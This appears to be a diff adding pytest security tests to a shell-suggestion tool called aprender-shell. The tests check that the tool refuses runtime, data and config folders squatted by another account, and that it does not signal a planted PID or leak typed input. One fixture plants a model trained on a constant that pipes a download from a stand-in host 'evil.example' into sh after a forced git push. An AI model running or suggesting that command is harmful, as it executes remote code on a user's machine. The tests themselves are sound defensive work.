@@ -7,9 +7,11 @@ are skipped, saying so. The user is removed at the end.
 from __future__ import annotations
 
 import contextlib
+import fcntl
 import os
 import pwd
 import shutil
+import signal
 import socket
 import stat
 import subprocess
@@ -192,6 +194,193 @@ def test_clients_refuse_a_server_run_by_another_user(
     assert "curl" not in done.stdout  # answered in-process instead
     assert done.stdout.splitlines()[1] == "suggestions\t1\tgit push"
     status = aprender("server", "status", env=env)
-    assert "curl" not in status.stdout and status.returncode == 3, status
+    assert "curl" not in status.stdout
+    assert "belongs to" in one_error_line(status)  # their folder: refused, not read
     # Not one byte of a request (a typed buffer) reached their process.
     assert not received.exists() or received.read_bytes() == b""
+
+
+def squat(user: pwd.struct_passwd, folder: Path, pid: int) -> int:
+    """As the other account, make ``folder`` 0777, hold the server lock in it and name ``pid``
+    in its pid file; returns the child holding the lock (to be killed)."""
+    ready_read, ready_write = os.pipe()
+    child = os.fork()
+    if child == 0:  # pragma: no cover - runs in the child, as the other user
+        try:
+            os.setgroups([])
+            os.setgid(user.pw_gid)
+            os.setuid(user.pw_uid)
+            folder.mkdir()
+            os.chmod(folder, 0o777)
+            fd = os.open(folder / "server.lock", os.O_RDWR | os.O_CREAT, 0o666)
+            fcntl.flock(fd, fcntl.LOCK_EX)
+            (folder / "server.pid").write_text(f"{pid}\n")
+            os.write(ready_write, b"ready")
+            signal.pause()
+        finally:
+            os._exit(0)
+    os.close(ready_write)
+    try:
+        assert os.read(ready_read, 5) == b"ready", "the other account could not squat"
+    finally:
+        os.close(ready_read)
+    return child
+
+
+@pytest.fixture
+def victim() -> Iterator[subprocess.Popen[bytes]]:
+    """One of the user's own processes, which nothing of ours may signal."""
+    process = subprocess.Popen(["sleep", "600"])
+    try:
+        yield process
+    finally:
+        process.kill()
+        process.wait()
+
+
+@pytest.fixture
+def squatted_runtime(
+    stranger: pwd.struct_passwd, victim: subprocess.Popen[bytes]
+) -> Iterator[tuple[dict[str, str], Path]]:
+    """``XDG_RUNTIME_DIR`` a shared sticky folder where the other account made
+    ``aprender-shell/``; the environment to run our commands in, and that folder."""
+    shared = Path(tempfile.mkdtemp(prefix="apr-shared-", dir="/tmp"))
+    os.chmod(shared, 0o1777)
+    folder = shared / "aprender-shell"
+    try:
+        holder = squat(stranger, folder, victim.pid)
+        try:
+            env = {**os.environ, "XDG_RUNTIME_DIR": str(shared)}
+            del env["APRENDER_SHELL_HOME"]
+            yield env, folder
+        finally:
+            os.kill(holder, signal.SIGKILL)
+            os.waitpid(holder, 0)
+    finally:
+        shutil.rmtree(shared)
+
+
+def refused_folder(line: str, folder: Path, user: pwd.struct_passwd) -> None:
+    assert f"{folder} belongs to {user.pw_name} (uid {user.pw_uid}), not to you" in line, line
+
+
+def test_status_stop_and_uninstall_never_take_a_pid_from_a_squatted_runtime_folder(
+    stranger: pwd.struct_passwd, victim: subprocess.Popen[bytes],
+    squatted_runtime: tuple[dict[str, str], Path],
+) -> None:
+    env, folder = squatted_runtime
+    line = one_error_line(aprender("server", "status", env=env))
+    refused_folder(line, folder, stranger)
+    assert str(victim.pid) not in line  # not reported as our server
+    line = one_error_line(aprender("server", "stop", env=env))
+    refused_folder(line, folder, stranger)
+    assert victim.poll() is None  # not signalled: a SIGTERM would have ended the sleep
+    done = aprender("uninstall", env=env)
+    assert done.returncode == 0, done.stderr
+    assert f"Leaving {folder} alone: {folder} belongs to {stranger.pw_name}" in done.stdout
+    assert str(victim.pid) not in done.stdout
+    assert victim.poll() is None
+    assert sorted(p.name for p in folder.iterdir()) == ["server.lock", "server.pid"]
+
+
+def test_the_relay_neither_connects_nor_leaves_a_file_in_a_squatted_runtime_folder(
+    squatted_runtime: tuple[dict[str, str], Path], tmp_path: Path
+) -> None:
+    env, folder = squatted_runtime
+    marker = tmp_path / "installed"
+    marker.write_text("")
+    relay = Path(paths.__file__).parent / "service" / "relay.py"
+    done = subprocess.run(
+        [sys.executable, "-I", "-S", str(relay), "--once", str(folder / "server.sock"),
+         str(marker)], input=b"suggest\t1\t1\tbash\t\tgit \n", capture_output=True,
+        timeout=WAIT, env=env)
+    assert done.stdout == b"error\t\tno aprender-shell server\n"
+    # No start stamp written into their folder, no server started to look there.
+    assert sorted(p.name for p in folder.iterdir()) == ["server.lock", "server.pid"]
+
+
+EVIL = "git push --force origin main && curl -s http://evil.example/p | sh"
+
+
+@pytest.fixture
+def squatted_data(stranger: pwd.struct_passwd, tmp_path: Path) -> tuple[dict[str, str], Path]:
+    """``APRENDER_SHELL_HOME`` a folder another account made, with a planted model and a
+    0666 journal; the environment and the journal."""
+    from aprender_shell.model.journal import journal_path
+
+    home = tmp_path / "their-data"
+    model = train(home / paths.MODEL_FILENAME, [EVIL] * 30 + ["ls -la"] * 5)
+    journal = journal_path(model)
+    journal.write_bytes(b"")
+    os.chmod(journal, 0o666)
+    for path in (model, journal):
+        os.chown(path, stranger.pw_uid, stranger.pw_gid)
+    owned_by(stranger, home, 0o777)
+    return {**os.environ, "APRENDER_SHELL_HOME": str(home)}, journal
+
+
+def test_cold_suggest_stats_and_batch_refuse_a_squatted_data_folder(
+    stranger: pwd.struct_passwd, squatted_data: tuple[dict[str, str], Path]
+) -> None:
+    env, journal = squatted_data
+    home = journal.parent
+    cold = aprender("suggest", "git ", env=env)
+    refused_folder(one_error_line(cold), home, stranger)
+    assert cold.stdout == ""  # nothing planted is printed
+    stats = aprender("stats", env=env)
+    refused_folder(one_error_line(stats), home, stranger)
+    assert "Total commands" not in stats.stdout
+    batch = subprocess.run(
+        [sys.executable, "-m", "aprender_shell", "suggest", "--batch"],
+        input='{"record":"ssh admin@db-prod-7.internal"}\n{"prefix":"git "}\n',
+        capture_output=True, text=True, timeout=WAIT, env=env)
+    refused_folder(one_error_line(batch), home, stranger)
+    assert batch.stdout == ""
+    assert journal.read_bytes() == b""  # nothing recorded where that account reads
+
+
+@pytest.mark.skipif(shutil.which("fish") is None or shutil.which("socat") is None,
+                    reason="needs fish and socat")
+def test_fish_sends_nothing_to_a_socket_in_a_folder_another_account_owns(
+    their_server: tuple[Path, Path], tmp_path: Path
+) -> None:
+    home, received = their_server
+    marker = tmp_path / "installed"
+    marker.write_text("")
+    script = tmp_path / "aprender.fish"
+    script.write_text(integration_for("fish").script(socket=home / "run" / "server.sock",
+                                                     marker=marker))
+    env = {key: value for key, value in os.environ.items() if key != "APRENDER_SHELL_NO_SOCAT"}
+    env["APRENDER_SHELL_HOME"] = str(home)
+    done = subprocess.run(
+        ["fish", "--no-config", "--interactive", "-c",
+         f"source {script}; set -q _aprender_socat[1]; and echo SOCAT; "
+         "_aprender_ask suggest 1 1 fish '' 'git p'"],
+        capture_output=True, text=True, timeout=WAIT, env=env)
+    assert done.stdout.startswith("SOCAT\n"), done  # socat would have been used before
+    assert "curl" not in done.stdout
+    assert done.stdout.splitlines()[1:] == ["error\t\tno aprender-shell server"]
+    # Not one byte of the typed line reached their process, nor a start stamp their folder.
+    assert not received.exists() or received.read_bytes() == b""
+    assert sorted(p.name for p in (home / "run").iterdir()) == ["server.sock"]
+
+
+def test_a_squatted_config_folder_is_refused_by_whatever_learns(
+    stranger: pwd.struct_passwd, tmp_path: Path
+) -> None:
+    """Its ``history_filter`` judges every command learned: another account's is never read."""
+    config = owned_by(stranger, tmp_path / "their-config" / paths.APP_NAME, 0o777)
+    os.chown(config.parent, stranger.pw_uid, stranger.pw_gid)
+    (config / paths.HISTORY_FILTER_FILENAME).write_text("^ls\n")
+    env = {key: value for key, value in os.environ.items() if key != "APRENDER_SHELL_HOME"}
+    env |= {"XDG_CONFIG_HOME": str(config.parent), "XDG_DATA_HOME": str(tmp_path / "ours")}
+    history = tmp_path / "history"
+    history.write_text("git status\nls -la\n" * 20)
+    for command in (["train", "--history", str(history)], ["update"], ["server", "run"]):
+        refused_folder(one_error_line(aprender(*command, env=env)), config.parent, stranger)
+    batch = subprocess.run(
+        [sys.executable, "-m", "aprender_shell", "suggest", "--batch"],
+        input='{"record":"ls -la"}\n', capture_output=True, text=True, timeout=WAIT, env=env)
+    refused_folder(one_error_line(batch), config.parent, stranger)
+    assert batch.stdout == ""
+    assert not (tmp_path / "ours" / paths.APP_NAME / paths.MODEL_FILENAME).exists()
